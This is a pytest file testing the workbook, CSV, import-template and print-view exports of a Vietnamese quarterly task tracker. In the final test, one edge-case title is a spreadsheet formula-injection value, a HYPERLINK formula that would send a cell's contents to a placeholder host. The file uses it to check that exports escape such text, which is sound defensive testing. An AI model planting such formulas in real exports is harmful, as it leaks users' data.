"""The workbook, the CSV task list, the import template, and the print view."""
import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from tests.helpers import page_text
from tracker.models import Quarter
from tracker.figures.services import compute
from tracker.reports.services import load_tasks

D = dt.date


def _workbook(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.data[:300]
    assert response.mimetype.endswith("spreadsheetml.sheet")
    return load_workbook(io.BytesIO(response.data))


def _figure(figures, code):
    value = figures
    for part in code.split("."):
        value = value[part]
    return value


def test_workbook_sheets_types_and_figures(client, login_as, demo, db):
    login_as("viewer")
    book = _workbook(client, "/quarters/2023-Q2/report.xlsx?lang=en")
    assert book.sheetnames == ["Tổng hợp", "Nhiệm vụ", "Theo đơn vị",
                               "Phần việc của các đơn vị", "Ý kiến, kiến nghị"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
        assert all(cell.font.bold for cell in sheet[1] if cell.value)

    q2 = db.session.scalar(db.select(Quarter).where(Quarter.number == 2))
    # An open quarter's downloads are judged at the report's date (its briefing).
    figures = compute(q2, load_tasks(q2), D(2023, 6, 30))
    summary = book["Tổng hợp"]
    assert [c.value for c in summary[1]] == ["Chỉ tiêu", "Số liệu", "Mã"]
    rows = {row[2]: row[1] for row in summary.iter_rows(min_row=2, values_only=True)}
    assert rows["quarter"] == "Quý II/2023"
    assert rows["as_of"] == dt.datetime(2023, 6, 30)
    checked = 0
    for code, value in rows.items():
        if code in ("quarter", "as_of", "approved"):
            continue
        expected = _figure(figures, code)
        assert value == ("" if expected is None else expected) or (
            value is None and expected is None), code
        checked += 1
    assert checked > 25 and rows["total"] == 10

    tasks = book["Nhiệm vụ"]
    header = [c.value for c in tasks[1]]
    assert header[:4] == ["Mã nhiệm vụ", "Loại công việc", "Tên nhiệm vụ", "Đơn vị chủ trì"]
    assert "Tiến độ so với hạn" in header and "Hạn hoàn thành" in header
    assert tasks.max_row == 11
    due = header.index("Hạn hoàn thành") + 1
    for row in range(2, tasks.max_row + 1):
        cell = tasks.cell(row=row, column=due)
        if cell.value is not None:
            assert isinstance(cell.value, dt.datetime) and cell.number_format == "DD/MM/YYYY"
    congress = next(row for row in tasks.iter_rows(min_row=2, values_only=True)
                    if "Công đoàn" in row[2])
    assert congress[1] == "Đại hội" and congress[header.index("Trạng thái")] == "Hoàn thành"
    assert congress[header.index("Ngày hoàn thành")] == dt.datetime(2023, 5, 25)
    assert congress[header.index("Đại hội lần thứ (số)")] == 19

    units = book["Theo đơn vị"]
    sheet_rows = list(units.iter_rows(min_row=2, values_only=True))
    assert [(r[1], r[2], r[3], r[4]) for r in sheet_rows] == [
        (u["short_name"], u["led"], u["shares"], u["coordinated"])
        for u in figures["units"]]


def test_csv_is_utf8_with_bom_one_row_per_task(client, login_as, demo):
    login_as("viewer")
    response = client.get("/quarters/2023-Q1/tasks.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")
    assert "nhiem-vu-2023-Q1.csv" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:4] == ["Mã nhiệm vụ", "Loại công việc", "Tên nhiệm vụ", "Đơn vị chủ trì"]
    assert len(rows) == 7
    header = rows[0]
    dialogue = next(r for r in rows if r[2].startswith("Bí thư Đảng ủy 11 xã"))
    assert dialogue[header.index("Hạn hoàn thành")] == "31/03/2023"
    # Led by the communes as a group: the group is named, not its eleven members.
    assert dialogue[header.index("Đơn vị chủ trì")] == "Các cơ sở"
    assert dialogue[header.index("Đơn vị cùng thực hiện")] == ""
    assert dialogue[header.index("Tiến độ so với hạn")] == "Hoàn thành đúng hạn"


def test_template_lists_the_import_columns_and_choices(client, login_as, units):
    login_as("staff")
    book = _workbook(client, "/quarters/import-template.xlsx")
    assert book.sheetnames == ["Kế hoạch", "Hướng dẫn", "Danh mục"]
    plan = book["Kế hoạch"]
    header = [c.value for c in plan[1]]
    assert header[:3] == ["Loại công việc", "Tên nhiệm vụ", "Đơn vị chủ trì"]
    assert "Mã nhiệm vụ" not in header and "Tiến độ so với hạn" not in header
    assert plan.max_row == 1 and plan.freeze_panes == "A2"
    assert len(plan.data_validations.dataValidation) == 3
    lists = book["Danh mục"]
    assert ("Đại hội", "congress") in [
        (r[0], r[1]) for r in lists.iter_rows(min_row=2, values_only=True)]
    assert "Hội Nông dân huyện Sơn Tịnh" in [
        r[4] for r in lists.iter_rows(min_row=2, values_only=True)]


def test_print_view_shows_each_unit_by_status(client, login_as, demo):
    login_as("viewer")
    response = client.get("/quarters/2023-Q2/print")
    text = page_text(response)
    assert response.status_code == 200
    assert "css/print.css" in text and "style=" not in text and "<script>" not in text
    # The sheet has its own <head>: without the icon the browser asks for /favicon.ico.
    assert '<link rel="icon" type="image/svg+xml" href="/static/favicon.svg">' in text
    assert "Hội nghị trực báo · Quý II/2023" in text
    hnd = text[text.index("Hội Nông dân huyện Sơn Tịnh</th>"):]
    hnd = hnd[:hnd.index("</tr>")]
    in_progress = hnd[hnd.index('class="print-in_progress"'):hnd.index(
        'class="print-not_started"')]
    assert "Đại hội đại biểu Hội Nông dân huyện lần thứ XII" in in_progress
    ldld = text[text.index("Liên đoàn Lao động huyện Sơn Tịnh</th>"):]
    done = ldld[ldld.index('class="print-done"'):ldld.index('class="print-in_progress"')]
    assert "Đại hội Công đoàn huyện lần thứ XIX" in done
    # A commune's row holds its own share of the shared task.
    commune = text[text.index("Đảng ủy xã Tịnh Bắc</th>"):]
    commune = commune[:commune.index("</tr>")]
    done = commune[commune.index('class="print-done"'):commune.index(
        'class="print-in_progress"')]
    assert "Thực hiện nghiêm túc Quy chế dân chủ" in done and "phần việc của đơn vị" in done


@pytest.mark.parametrize("url", [
    "/quarters/{key}/report.docx", "/quarters/{key}/report.xlsx",
    "/quarters/{key}/tasks.csv", "/quarters/{key}/print",
    "/quarters/import-template.xlsx?from={key}",
])
def test_exports_statement_count_does_not_grow_with_tasks(
        client, login_as, make_quarter, make_unit, make_task, count_queries, url):
    login_as("viewer")
    units = [make_unit() for _ in range(4)]
    small, large = make_quarter(2023, 1), make_quarter(2024, 1)
    for quarter, count in ((small, 2), (large, 12)):
        for n in range(count):
            make_task(quarter=quarter, lead=units[n % 4], coordinating=[units[(n + 1) % 4]],
                      participating=[units[(n + 2) % 4]], kind="dialogue",
                      title=f"Nhiệm vụ {n}", status="in_progress", progress=10)
    counts = []
    for quarter in (small, large):
        with count_queries() as statements:
            response = client.get(url.format(key=quarter.key))
            body = response.get_data()  # a streamed download reads as it is sent
        assert response.status_code == 200 and body
        counts.append(len(statements))
    assert counts[0] == counts[1], counts


@pytest.mark.parametrize("url", [
    "/quarters/2023-Q1/report.docx", "/quarters/2023-Q1/report.xlsx",
    "/quarters/2023-Q1/tasks.csv", "/quarters/2023-Q1/print",
    "/quarters/2023-Q1/report", "/quarters/import-template.xlsx",
])
def test_exports_need_a_signed_in_user(client, demo, url):
    response = client.get(url)
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_unknown_quarter_is_404(client, login_as):
    login_as("viewer")
    for url in ("/quarters/2031-Q1/report.docx", "/quarters/2023-Q5/report.xlsx",
                "/quarters/import-template.xlsx?from=2031-Q1"):
        assert client.get(url).status_code == 404


@pytest.mark.parametrize("url", ["/quarters/2023-Q2/tasks.csv", "/admin/audit.csv"])
def test_csv_names_its_charset_once(client, login_as, demo, url):
    login_as("admin")
    response = client.get(url)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_exports_say_their_quarter_in_words(client, login_as, demo):
    """The quarter has a column of its own, and carried work names its quarter."""
    from tracker.quarters.rollover import close_quarter

    q1 = db_quarter(1)
    close_quarter(q1, {}, None)
    from tracker.extensions import db

    db.session.commit()
    login_as("viewer")
    response = client.get("/quarters/2023-Q2/tasks.csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    header = rows[0]
    quarter, origin = header.index("Quý"), header.index("Chuyển từ quý")
    assert {row[quarter] for row in rows[1:]} == {"Quý II/2023"}
    assert "Quý I/2023" in {row[origin] for row in rows[1:]}
    assert not any("2023-Q" in cell for row in rows for cell in row)
    book = _workbook(client, "/quarters/2023-Q2/report.xlsx")
    tasks = book["Nhiệm vụ"]
    header = [c.value for c in tasks[1]]
    values = [row[header.index("Quý")] for row in tasks.iter_rows(min_row=2,
                                                                   values_only=True)]
    assert set(values) == {"Quý II/2023"}
    assert book["Tổng hợp"].column_dimensions["C"].hidden  # the figures' codes


def db_quarter(number):
    from tracker.extensions import db

    return db.session.scalar(db.select(Quarter).where(Quarter.number == number))


def _unit_row(text, name):
    row = text[text.index(f"{name}</th>"):]
    return " ".join(row[:row.index("</tr>")].split())


def test_print_view_shows_what_the_report_shows(client, login_as, varied_quarter, db):
    """The saved proposals, the coordinating units, and no 0% beside ongoing work."""
    from tracker.reports.services import save_report

    login_as("staff")
    text = page_text(client.get("/quarters/2023-Q2/print"))
    # Nothing stored: the starting text of section V, as the report prints it.
    proposals = text[text.index('id="proposals"'):]
    assert "nhiệm vụ quá hạn trong quý tới." in proposals
    save_report(varied_quarter, {"proposals": "Đề nghị Ban Dân vận Tỉnh ủy hỗ trợ.\n"
                                              "Tăng kinh phí cho cơ sở."}, None)
    db.session.commit()
    text = page_text(client.get("/quarters/2023-Q2/print"))
    proposals = text[text.index('id="proposals"'):]
    assert "Đề xuất, kiến nghị" in proposals
    assert "<p class=\"mb-1\">Đề nghị Ban Dân vận Tỉnh ủy hỗ trợ.</p>" in proposals
    assert "Tăng kinh phí cho cơ sở." in proposals
    hnd = _unit_row(text, "Hội Nông dân huyện Sơn Tịnh")
    # Who does it, in the report's own words.
    assert ("— Hội Nông dân huyện Sơn Tịnh chủ trì, phối hợp với Ban Dân vận Huyện ủy "
            "Sơn Tịnh") in hnd
    bdv = _unit_row(text, "Ban Dân vận Huyện ủy Sơn Tịnh")
    # The recurring monitoring work has no percentage: it says so, never "0%".
    assert "Theo dõi, nắm bắt tình hình nhân dân <span" in bdv
    assert "(thường xuyên)" in bdv and " 0%" not in bdv
    assert "50%" in bdv  # the dialogue, half done


def test_csv_is_sent_in_chunks_as_its_rows_are_read(
        client, db, login_as, make_quarter, make_unit, make_task, monkeypatch):
    from tracker.reports import workbook

    monkeypatch.setattr(workbook, "CSV_CHUNK", 2)
    login_as("viewer")
    unit, other = make_unit(), make_unit()
    quarter = make_quarter(2023, 1)
    titles = [f"Việc {n}" for n in range(5)]
    for title in titles:
        make_task(quarter=quarter, lead=unit, participating=[other], title=title)
    archived = make_task(quarter=quarter, lead=unit, title="Đã lưu trữ")
    archived.is_archived = True
    db.session.commit()
    response = client.get(f"/quarters/{quarter.key}/tasks.csv", buffered=False)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=nhiem-vu-{quarter.key}.csv")
    chunks = list(response.response)
    response.close()
    # The header, then two rows at a time, then the rest.
    assert len(chunks) == 1 + 2 + 1
    data = b"".join(chunks)
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [row[2] for row in rows[1:]] == titles
    column = rows[0].index("Đơn vị cùng thực hiện")
    assert all(other.name in row[column] for row in rows[1:])


def test_every_dated_cell_holds_its_own_rows_date(client, login_as, demo, db):
    # Each dated cell holds its own row's date, in the sheet's dd/mm/yyyy format.
    from tracker.models import Task, TaskUnit

    login_as("viewer")
    book = _workbook(client, "/quarters/2023-Q2/report.xlsx")

    def as_date(cell):
        assert cell.value is None or cell.number_format == "DD/MM/YYYY"
        return cell.value.date() if cell.value is not None else None

    tasks = book["Nhiệm vụ"]
    header = [c.value for c in tasks[1]]
    due, done = header.index("Hạn hoàn thành"), header.index("Ngày hoàn thành")
    seen = set()
    for row in tasks.iter_rows(min_row=2):
        task = db.session.get(Task, row[0].value)
        assert (as_date(row[due]), as_date(row[done])) == (task.due_on, task.completed_on)
        seen.add(task.due_on)
    assert len(seen) > 1
    shares = book["Phần việc của các đơn vị"]
    checked = 0
    for row in shares.iter_rows(min_row=2):
        task = db.session.get(Task, row[0].value)
        links = [link for link in task.unit_links if link.unit.name == row[3].value]
        assert len(links) == 1
        assert as_date(row[5]) == links[0].share_done_on
        assert as_date(row[6]) == task.due_on and as_date(row[9]) == D(2023, 6, 30)
        checked += 1
    assert checked == db.session.scalar(db.select(db.func.count()).select_from(TaskUnit)
                                        .join(Task).where(Task.quarter_id == task.quarter_id,
                                                          TaskUnit.role == "participating"))


def test_workbook_tasks_sheet_holds_what_the_csv_holds(client, login_as, demo, db):
    """Two writers, one list: each task's row in report.xlsx, read back, equals its
    row in tasks.csv, column by column (dates as dd/mm/yyyy, numbers as digits), with
    texts that start a formula, end in spaces, or hold a carriage return or
    something that looks like Excel's own escape."""
    from tracker.exports import csv_text_in
    from tracker.models import Task
    from tracker.reports.imports import read_cells

    q2 = db.session.scalar(db.select(Quarter).where(Quarter.year == 2023,
                                                    Quarter.number == 2))
    tasks = db.session.scalars(db.select(Task).where(Task.quarter_id == q2.id)
                               .order_by(Task.id)).all()
    odd = ['=HYPERLINK("http://x/?d="&A1,"x")', "  hai đầu có khoảng trắng  ",
           "dòng một\r\ndòng hai\ttab", "x_x0041_y _x000D_", "#N/A", "-"]
    for task, text in zip(tasks, odd):
        task.title = text
        task.result = text
    db.session.commit()
    login_as("viewer")
    book = client.get("/quarters/2023-Q2/report.xlsx")
    sheet = read_cells(book.data, "report.xlsx")  # the tasks sheet, as imports read it
    listed = client.get("/quarters/2023-Q2/tasks.csv").get_data()
    rows = list(csv.reader(io.StringIO(listed.decode("utf-8-sig"))))

    def as_text(value):
        if value is None:
            return ""
        if isinstance(value, (dt.datetime, dt.date)):
            return value.strftime("%d/%m/%Y")
        if isinstance(value, float) and value.is_integer():
            return str(int(value))
        return str(value)

    width = len(rows[0])
    assert list(sheet[0][:width]) == rows[0]
    assert not any(value is not None for row in sheet for value in row[width:])
    by_id = {row[0]: [csv_text_in(cell) for cell in row] for row in rows[1:]}
    assert len(sheet) - 1 == len(by_id) == len(tasks) > len(odd)
    for row in sheet[1:]:
        values = [as_text(value) for value in row[:width]]
        assert values == by_id[values[0]], values[0]
    titles = {row[2] for row in sheet[1:]}
    assert set(odd) <= titles
